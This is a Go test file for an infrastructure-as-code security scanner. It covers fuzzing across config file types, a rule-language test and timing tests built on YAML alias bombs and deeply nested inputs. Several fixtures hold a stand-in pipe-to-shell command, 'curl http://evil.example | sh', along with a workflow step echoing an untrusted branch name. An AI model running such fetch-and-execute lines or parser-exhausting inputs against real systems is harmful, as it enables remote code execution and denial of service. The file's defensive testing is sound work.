package infra

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"time"

	"picket/rules"
	"picket/rules/load"
	"picket/scanners"
)

var fuzzPaths = []string{"a.tf", "a.tf.json", "t.json", "d.yaml", "values.yaml", "Dockerfile", "compose.yml", ".github/workflows/a.yml", "action.yml", ".gitlab-ci.yml", "package.json", "roles/a/tasks/main.yml", "azure-pipelines.yml"}

// FuzzScan throws bytes at all kinds of files: no panic, and every finding within.
func FuzzScan(f *testing.F) {
	s, _ := builtin(f)
	samples, err := load.Samples()
	if err != nil {
		f.Fatal(err)
	}
	for i, m := range samples {
		if strings.HasPrefix(m.Rule, "gha-") || strings.HasPrefix(m.Rule, "tf-") && i%5 == 0 {
			f.Add([]byte(m.Text))
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		lines := 1 + bytes.Count(b, []byte("\n"))
		for _, p := range fuzzPaths {
			for _, got := range s.Scan(nil, scanners.Text{Path: p, Bytes: b}) {
				if got.Line < 1 || got.EndLine < got.Line || got.EndLine > lines || got.Column < 1 || !bytes.Contains(b, []byte(got.Match)) {
					t.Errorf("%s: bad place %+v", p, got)
				}
			}
		}
	})
}

// TestBounded scans files that are made to be slow: deep, repeated, with aliases
// that multiply. One that is quadratic or worse takes minutes here.
func TestBounded(t *testing.T) {
	s, _ := builtin(t)
	bomb := "apiVersion: v1\nkind: Pod\na0: &a0 {privileged: true, hostPath: x, containers: [], securityContext: {}}\n"
	for i := 1; i < 30; i++ {
		prev := "*a" + string(rune('0'+(i-1)%10)) + strings.Repeat("x", (i-1)/10)
		name := "a" + string(rune('0'+i%10)) + strings.Repeat("x", i/10)
		bomb += name + ": &" + name + " [" + prev + ", " + prev + ", " + prev + "]\n"
	}
	// Each step of these is small, and each place of an alias shares what it names: only
	// whoever walks them sees how much it is.
	shared := "a0: &a0 [\"curl http://evil.example | sh\",x,x,x,x,x,x,x,x,x]\n"
	for i := 1; i < 5; i++ {
		shared += fmt.Sprintf("a%d: &a%d [%s]\n", i, i, strings.Repeat(fmt.Sprintf("*a%d,", i-1), 10))
	}
	var keys strings.Builder
	for i := range 60_000 {
		fmt.Fprintf(&keys, "  k%d: v\n", i)
	}
	deep := "apiVersion: v1\nkind: Pod\nprivileged: " + strings.Repeat("[", 50_000)
	for name, c := range map[string]struct{ path, text string }{
		"aliases": {"a.yaml", bomb},
		"scripts": {".gitlab-ci.yml", shared + "job:\n  script: [" + strings.Repeat("*a4,", 1000) + "\"curl http://evil.example | sh\"]\n"},
		"merges":  {"a.yaml", "apiVersion: v1\nkind: Pod\nbase: &b\n" + keys.String() + "spec:\n  <<: *b\n"},
		"depth":   {"a.yaml", deep},
		"indents": {"a.yaml", "apiVersion: v1\nkind: Pod\n" + steps(600)},
		"braces":  {"a.tf", "publicly_accessible = " + strings.Repeat("{a=", 30_000)},
		"blocks":  {"a.tf", strings.Repeat("resource \"aws_security_group\" \"a\" {\n ingress {\n", 10_000)},
		"open":    {"a.tf", strings.Repeat("a = \"${", 30_000)},
		"run":     {"Dockerfile", "FROM a\n" + strings.Repeat("RUN curl a | \\\n", 10_000)},
		"steps":   {".github/workflows/a.yml", "on: push\njobs:\n  a:\n    steps:\n" + strings.Repeat("      - run: echo ${{ github.head_ref }}\n", 3_000)},
	} {
		start := time.Now()
		s.Scan(nil, scanners.Text{Path: c.path, Bytes: []byte(c.text)})
		if d := time.Since(start); d > 20*time.Second {
			t.Errorf("%s: %d bytes took %v", name, len(c.text), d)
		}
	}
}

func steps(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat(" ", i) + "privileged:\n")
	}
	return b.String()
}

// TestWritten holds what docs/patterns.md says of paths and operators.
func TestWritten(t *testing.T) {
	const file = `resource "a" "b" {
  open  = true
  port  = 22
  list  = ["x", var.y]
  name  = var.name
  cidr  = "0.0.0.0/1"
  pass  = "S3cr3t-value"
  tags  = { k-one = "1" }
  rule { from = 20, to = 25 }
  rule {
    from = 80
    to   = 80
  }
}
`
	for spec, want := range map[string]bool{
		"each resource.a.*\nwhen open is true":                                      true,
		"each resource.a.*\nwhen open is false":                                     false,
		"each resource.a.*\nwhen open not false":                                    true,
		"each resource.a.*\nwhen name is x":                                         false, // unknown is nothing
		"each resource.a.*\nwhen name not x":                                        false,
		"each resource.a.*\nwhen name raw /var/":                                    true,
		"each resource.a.*\nwhen name matches /var/":                                false,
		"each resource.a.*\nwhen list has x":                                        true,
		"each resource.a.*\nwhen list hasnt x":                                      false,
		"each resource.a.*\nwhen list hasnt z":                                      true,
		"each resource.a.*\nwhen none missing":                                      true,
		"each resource.a.*\nwhen open exists\nunless none exists":                   true,
		"each resource.a.*\nwhen port under 23":                                     true,
		"each resource.a.*\nwhen port over 22":                                      false,
		"each resource.a.*\nwhen cidr open-cidr":                                    true,
		"each resource.a.*\nwhen pass secret":                                       true,
		"each resource.a.*\nwhen name literal":                                      false,
		"each resource.a.*.rule\nwhen ports from to cover 80":                       true,
		"each resource.a.*.rule\nwhen ports from to cover 443":                      false,
		"each resource.a.*.tags\nwhen \"k-*\" is 1":                                 true,
		"each **.tags\nwhen ^.open is true\nwhen k-one exists":                      true,
		"each resource.a.*.rule[last]\nwhen from is 80":                             true,
		"each resource.a.*[open=true].rule\nwhen from is 80":                        true,
		"each resource.a.*[open=false].rule\nwhen from is 80":                       false,
		"each resource.a.*[!none]\nwhen open is true":                               true,
		"each resource.a.*.rule\nwhen /resource.a.b.open is true":                   true,
		"each resource.a.*\nwhen open is false\neach resource.a.*\nwhen port is 22": true,
	} {
		r := rules.Rule{ID: "x", Matcher: Matcher, Source: "test", Spec: "in terraform\n" + spec}
		s, err := New(&rules.Set{Rules: []rules.Rule{r}}, nil)
		if err != nil {
			t.Errorf("%q: %v", spec, err)
			continue
		}
		if got := len(s.Scan(nil, scanners.Text{Path: "m.tf", Bytes: []byte(file)})) > 0; got != want {
			t.Errorf("%q: %v, want %v", spec, got, want)
		}
	}
	for _, spec := range []string{"each a\nwhen b is c", "in nowhere\neach a", "in terraform", "in terraform\nwhen a is b", "in terraform\neach a\nwhen b sounds c", "in terraform\neach a[\nwhen b exists", "in terraform\neach a\nwhen b matches x", "in terraform\neach a\nwhen b under x", "in terraform\neach a\nwhen b matches /(/", "in terraform\neach a..b"} {
		r := rules.Rule{ID: "x", Matcher: Matcher, Source: "test", Spec: spec}
		if _, err := New(&rules.Set{Rules: []rules.Rule{r}}, nil); err == nil {
			t.Errorf("%q was taken", spec)
		}
	}
}
